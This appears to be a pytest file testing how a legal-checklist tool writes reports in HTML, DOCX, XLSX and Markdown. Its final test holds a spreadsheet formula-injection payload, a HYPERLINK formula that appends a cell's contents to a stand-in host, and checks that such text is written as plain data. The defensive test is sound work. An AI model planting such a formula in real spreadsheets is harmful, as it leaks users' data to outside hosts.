"""Checklist reports (ui/reports.py): every format is read back with the library that wrote it."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from migralex.ui import reports

DATA: dict[str, Any] = {
    "checklist": "ssa",
    "title": "Social security agreement checklist",
    "document": {"path": "draft.docx", "doc_id": "d", "title": "Draft A", "language": "en"},
    "items": [
        {
            "id": "ssa.totalisation",
            "question": "Are periods added together?",
            "reference": "C118 Art. 7; C157 Art. 6-7",
            "status": "present",
            "confidence": 0.9,
            "reason": "found in Article 6 (Totalization) (via heading)",
            "why": "Short careers.",
            "evidence": [
                {
                    "clause_id": "d:article-6",
                    "label": "Article 6",
                    "heading": "Totalization",
                    "text": "Periods under both laws are totalized.",
                    "score": 0.9,
                    "tags": ["totalisation"],
                    "page_start": 4,
                    "page_end": 4,
                }
            ],
            "examples": [
                {
                    "doc_id": "x",
                    "doc_title": "Agreement X",
                    "clause_id": "x:article-9",
                    "label": "Article 9",
                    "text": "Creditable periods are added together.",
                }
            ],
        },
        {
            "id": "ssa.data_protection",
            "question": "Is personal data protected?",
            "reference": "R167 Model Agreement",
            "status": "absent",
            "confidence": 1.0,
            "reason": "no clause addresses this",
            "why": "Records travel.",
            "evidence": [],
            "examples": [],
        },
    ],
    "summary": {"present": 1, "partial": 0, "absent": 1},
}


class _Cells(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def _read_back(path: Path) -> list[list[str]]:
    """Return the table rows (header first) of a written report."""
    if path.suffix == ".html":
        parser = _Cells()
        parser.feed(path.read_text(encoding="utf-8"))
        return parser.rows
    if path.suffix == ".docx":
        import docx

        table = docx.Document(str(path)).tables[0]
        return [[c.text for c in row.cells] for row in table.rows]
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(path).active
        return [["" if v is None else str(v) for v in row] for row in ws.iter_rows(min_row=3, values_only=True)]  # fmt: skip
    raise AssertionError(path)


@pytest.mark.parametrize("suffix", [".html", ".docx", ".xlsx"])
def test_table_formats_round_trip(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"report{suffix}"
    reports.write_report(DATA, path)
    rows = _read_back(path)
    assert tuple(rows[0]) == reports.COLUMNS
    body = {r[0]: dict(zip(reports.COLUMNS, r, strict=True)) for r in rows[1:]}
    assert set(body) == {"ssa.totalisation", "ssa.data_protection"}
    tot = body["ssa.totalisation"]
    assert tot["Status"] == "present"
    assert "Article 6" in tot["Evidence"] and "p. 4" in tot["Evidence"]
    assert "totalized" in tot["Evidence"]
    assert tot["Reference"].startswith("C118 Art. 7")
    assert "Agreement X" in tot["Examples"] and "Article 9" in tot["Examples"]
    assert "via heading" in tot["Reason"]
    assert body["ssa.data_protection"]["Status"] == "absent"
    assert body["ssa.data_protection"]["Evidence"] == ""
    conf = next(i["confidence"] for i in DATA["items"] if i["id"] == "ssa.totalisation")
    assert tot["Confidence"] == f"{conf:.2f}"


def test_reports_name_the_file_and_the_date(tmp_path: Path) -> None:
    import datetime

    day = datetime.datetime.now(datetime.UTC).date().isoformat()
    for suffix in (".md", ".html"):
        path = tmp_path / f"report{suffix}"
        reports.write_report(DATA, path)
        text = path.read_text(encoding="utf-8")
        assert f"checked {day}" in text
        assert f"file {Path(DATA['document']['path']).name}" in text


def test_markdown_report(tmp_path: Path) -> None:
    path = tmp_path / "report.md"
    reports.write_report(DATA, path)
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Social security agreement checklist — Draft A")
    assert "## ssa.totalisation — **present**" in text
    assert "Article 6 (Totalization), p. 4" in text
    assert "Reference: C118 Art. 7" in text
    assert "- Agreement X — Article 9" in text
    assert "present 1 · partial 0 · absent 1" in text


def test_unknown_suffix_lists_formats(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"\.md, \.html, \.docx, \.xlsx"):
        reports.write_report(DATA, tmp_path / "report.pdf")


def test_xlsx_never_writes_a_draft_text_as_a_formula(tmp_path: Path) -> None:
    # openpyxl stores any string starting with "=" as a formula (issue #19 security review)
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    item = {**DATA["items"][0], "evidence": [{**DATA["items"][0]["evidence"][0], "text": hostile}]}
    data = {**DATA, "title": "=1+1", "items": [item]}
    target = tmp_path / "r.xlsx"
    reports.write_report(data, target)
    cells = [c for row in load_workbook(target).active.iter_rows() for c in row if c.value]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(hostile in str(c.value) for c in cells)
